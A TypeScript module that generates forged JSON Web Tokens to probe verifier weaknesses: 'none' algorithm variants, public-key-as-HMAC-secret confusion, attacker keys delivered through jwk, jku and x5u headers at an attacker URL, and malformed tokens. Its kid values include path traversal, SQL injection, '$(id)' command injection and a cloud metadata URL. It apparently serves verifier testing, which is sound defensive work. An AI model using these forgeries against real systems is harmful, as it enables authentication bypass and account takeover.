/** Access tokens that nobody who may has made, by the ways that verifiers of JSON Web Tokens were fooled before. */
import {
  createHash,
  createHmac,
  createPrivateKey,
  createPublicKey,
  generateKeyPairSync,
  type JsonWebKey,
  type KeyObject,
  sign,
} from "node:crypto";

/** A token that works, and what is known to everybody of the key that verifies it. */
export interface Genuine {
  readonly token: string;
  readonly publicKey: JsonWebKey & { readonly kid: string; readonly alg: string };
}

export interface Forgery {
  readonly name: string;
  readonly token: string;
}

type Json = Readonly<Record<string, unknown>>;

const encode = (value: unknown): string =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");

function parse(token: string): { head: string; body: string; signature: string; header: Json; claims: Json } {
  const [head = "", body = "", signature = ""] = token.split(".");
  const decode = (part: string) => JSON.parse(Buffer.from(part, "base64url").toString()) as Json;
  return { head, body, signature, header: decode(head), claims: decode(body) };
}

/** A token by whatever signs. */
function jws(header: unknown, claims: unknown, signer: (input: string) => Uint8Array): string {
  const input = `${encode(header)}.${encode(claims)}`;
  return `${input}.${Buffer.from(signer(input)).toString("base64url")}`;
}

const hmac =
  (algorithm: string, key: Uint8Array | string) =>
  (input: string): Uint8Array =>
    createHmac(`sha${algorithm.slice(2)}`, key)
      .update(input)
      .digest();

const byKey =
  (key: KeyObject) =>
  (input: string): Uint8Array =>
    sign(key.asymmetricKeyType === "ed25519" ? null : "sha256", Buffer.from(input), {
      key,
      dsaEncoding: "ieee-p1363",
    });

/** @param attackersUrl where somebody waits for a verifier that follows the token's own advice */
export function forge(genuine: Genuine, attackersUrl: string): readonly Forgery[] {
  return [
    ...unsigned(genuine),
    ...confused(genuine),
    ...bringingKeys(genuine, attackersUrl),
    ...naming(genuine),
    ...misshapen(genuine),
  ];
}

function unsigned({ token }: Genuine): Forgery[] {
  const { body, signature, header } = parse(token);
  const spellings: unknown[] = ["none", "None", "NONE", "nOnE", "", null, ["none"], true, 0, "none\u0000", undefined];
  return spellings.flatMap((alg) => {
    const head = encode({ ...header, alg });
    const name = `alg ${JSON.stringify(alg)}`;
    return [
      { name: `${name}, no signature`, token: `${head}.${body}.` },
      { name: `${name}, the signature of another`, token: `${head}.${body}.${signature}` },
    ];
  });
}

/** The public key, in every form that a verifier may have it in, as the secret of an HMAC. */
function confused({ token, publicKey }: Genuine): Forgery[] {
  const { header, claims } = parse(token);
  const { kid, alg, ...bare } = publicKey;
  const key = createPublicKey({ key: bare, format: "jwk" });
  const pem = key.export({ format: "pem", type: "spki" }).toString();
  const der = key.export({ format: "der", type: "spki" });
  const sorted = Object.fromEntries(Object.entries(bare).toSorted(([one], [two]) => (one < two ? -1 : 1)));
  const material = bare.n ?? bare.x ?? "";
  const forms: Record<string, string | Uint8Array> = {
    PEM: pem,
    "PEM without its last line end": pem.trimEnd(),
    "PEM with CRLF": pem.replaceAll("\n", "\r\n"),
    "PEM in one line": pem.replaceAll("\n", ""),
    "PEM's content": pem.replaceAll(/-----[^-]+-----|\s/g, ""),
    DER: der,
    "DER in hex": der.toString("hex"),
    "DER in base64url": der.toString("base64url"),
    JWK: JSON.stringify(bare),
    "JWK, sorted": JSON.stringify(sorted),
    "JWK with its kid": JSON.stringify(publicKey),
    "JWK, indented": JSON.stringify(publicKey, null, 2),
    "key set": JSON.stringify({ keys: [publicKey] }),
    thumbprint: createHash("sha256").update(JSON.stringify(sorted)).digest(),
    "key material": Buffer.from(material, "base64url"),
    "key material as text": material,
    "key material in hex": Buffer.from(material, "base64url").toString("hex"),
    kid,
    alg,
    nothing: "",
    zero: "\u0000",
    undefined: "undefined",
    null: "null",
  };
  if (key.asymmetricKeyType === "rsa") {
    forms["PKCS#1 PEM"] = key.export({ format: "pem", type: "pkcs1" }).toString();
    forms["PKCS#1 DER"] = key.export({ format: "der", type: "pkcs1" });
  }
  return Object.entries(forms).flatMap(([form, secret]) =>
    ["HS256", "HS384", "HS512"].map((name) => ({
      name: `${name} by the public key as ${form}`,
      token: jws({ ...header, alg: name }, claims, hmac(name, secret)),
    })),
  );
}

/** A key of the attacker's own, in or behind each header that can bring or name one. */
function bringingKeys({ token }: Genuine, url: string): Forgery[] {
  const { header, claims } = parse(token);
  const pairs = {
    EdDSA: generateKeyPairSync("ed25519"),
    ES256: generateKeyPairSync("ec", { namedCurve: "P-256" }),
    RS256: generateKeyPairSync("rsa", { modulusLength: 2048 }),
  };
  return Object.entries(pairs).flatMap(([alg, { privateKey, publicKey }]) => {
    const jwk = publicKey.export({ format: "jwk" });
    const der = publicKey.export({ format: "der", type: "spki" }).toString("base64");
    const headers: Record<string, Json> = {
      "nothing else": {},
      jwk: { jwk },
      "jwk with the private key": { jwk: privateKey.export({ format: "jwk" }) },
      "jwk by the genuine kid": { jwk: { ...jwk, kid: header["kid"] } },
      jku: { jku: `${url}/jku` },
      "jku by another kid": { jku: `${url}/jku`, kid: "attacker" },
      x5u: { x5u: `${url}/x5u` },
      x5c: { x5c: [der] },
      "x5t and x5u": { x5u: `${url}/x5u`, x5t: "attacker", "x5t#S256": "attacker" },
      "all of them": { jwk, jku: `${url}/jku`, x5u: `${url}/x5u`, x5c: [der] },
      "kid as a URL": { kid: `${url}/kid` },
      "crit jku": { crit: ["jku"], jku: `${url}/jku` },
    };
    return [
      ...Object.entries(headers).map(([name, more]) => ({
        name: `${alg} by the attacker's key, with ${name}`,
        token: jws({ ...header, alg, ...more }, claims, byKey(privateKey)),
      })),
      {
        name: `${alg} by the attacker's key, whose issuer is the attacker's`,
        token: jws({ ...header, alg }, { ...claims, iss: url }, byKey(privateKey)),
      },
    ];
  });
}

/** Names of keys that lead a careless verifier to another file, row, or property. */
function naming({ token }: Genuine): Forgery[] {
  const { header, claims } = parse(token);
  const kids: unknown[] = [
    "../../../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    "' UNION SELECT '' --",
    "' OR '1'='1",
    "| id",
    "__proto__",
    "constructor",
    "toString",
    "shared",
    "first",
    "*",
    "%00",
    "$(id)",
    "\\\\attacker\\share",
    "http://169.254.169.254/latest/meta-data",
    "",
    "x".repeat(4000),
    0,
    null,
    [header["kid"]],
    { kid: header["kid"] },
    `${String(header["kid"])} `,
    undefined,
  ];
  return kids.flatMap((kid) => [
    {
      name: `HS256 by an empty key that is called ${JSON.stringify(kid)?.slice(0, 40)}`,
      token: jws({ ...header, alg: "HS256", kid }, claims, hmac("HS256", "")),
    },
    {
      name: `a signature of zeros by a key that is called ${JSON.stringify(kid)?.slice(0, 40)}`,
      token: jws({ ...header, kid }, claims, () => new Uint8Array(64)),
    },
  ]);
}

/** What isn't a compact JWS, or isn't the one that was signed. */
function misshapen({ token }: Genuine): Forgery[] {
  const { head, body, signature, header, claims } = parse(token);
  const bytes = Buffer.from(signature, "base64url");
  const flipped = Buffer.from(bytes);
  flipped[0] = (flipped[0] ?? 0) ^ 1;
  const b64 = (one: Uint8Array): string => Buffer.from(one).toString("base64url");
  const raised = encode({ ...claims, exp: Number(claims["exp"]) + 3600 });
  const tokens: Record<string, string> = {
    "no signature at all": `${head}.${body}`,
    "an empty signature": `${head}.${body}.`,
    "four parts": `${token}.`,
    "five parts": `${encode({ alg: "dir", enc: "A256GCM" })}..${b64(bytes.subarray(0, 12))}.${body}.${b64(bytes.subarray(0, 16))}`,
    "a signature that is cut": `${head}.${body}.${b64(bytes.subarray(0, -1))}`,
    "a signature that is longer": `${head}.${body}.${b64(Buffer.concat([bytes, Buffer.from([0])]))}`,
    "a signature of zeros": `${head}.${body}.${b64(new Uint8Array(bytes.length))}`,
    "a signature of ones": `${head}.${body}.${b64(Buffer.alloc(bytes.length, 0xff))}`,
    "a bit of the signature": `${head}.${body}.${b64(flipped)}`,
    "ES256 with zeros": `${encode({ ...header, alg: "ES256" })}.${body}.${b64(new Uint8Array(64))}`,
    "another end": `${head}.${raised}.${signature}`,
    "another subject": `${head}.${encode({ ...claims, sub: "usr_00000000000000000000000000" })}.${signature}`,
    "the same header in other words": `${encode(`${JSON.stringify(header)} `)}.${body}.${signature}`,
    "alg twice": `${encode(`{"alg":"none",${JSON.stringify(header).slice(1)}`)}.${body}.${signature}`,
    "none twice": `${encode(`${JSON.stringify(header).slice(0, -1)},"alg":"none"}`)}.${body}.`,
    "an empty header": `${encode({})}.${body}.${signature}`,
    "a header that is a list": `${encode([header])}.${body}.${signature}`,
    "a header that is null": `${encode(null)}.${body}.${signature}`,
    "no header": `.${body}.${signature}`,
    "no claims": `${head}..${signature}`,
    "claims that are null": `${head}.${encode(null)}.${signature}`,
    "claims that are a list": `${head}.${encode([claims])}.${signature}`,
    "claims that aren't JSON": `${head}.${encode("{")}.${signature}`,
    "detached claims": `${encode({ ...header, b64: false, crit: ["b64"] })}.${body}.${signature}`,
    "an extension that nobody knows": `${encode({ ...header, crit: ["exp"] })}.${body}.${signature}`,
    "a compressed body": `${encode({ ...header, zip: "DEF" })}.${body}.${signature}`,
    "nothing but dots": "..",
    "JSON serialization": b64(Buffer.from(JSON.stringify({ protected: head, payload: body, signature }))),
    "a token in a token": jws({ ...header, cty: "JWT" }, token, () => bytes),
  };
  return Object.entries(tokens).map(([name, one]) => ({ name, token: one }));
}

/** A token like a genuine one but for some header fields and claims, signed by the right key. */
export function resign({ token }: Genuine, privateKey: JsonWebKey, header: Json, claims: Json): string {
  const { header: before, claims: said } = parse(token);
  const key = createPrivateKey({ key: privateKey, format: "jwk" });
  return jws({ ...before, ...header }, { ...said, ...claims }, byKey(key));
}
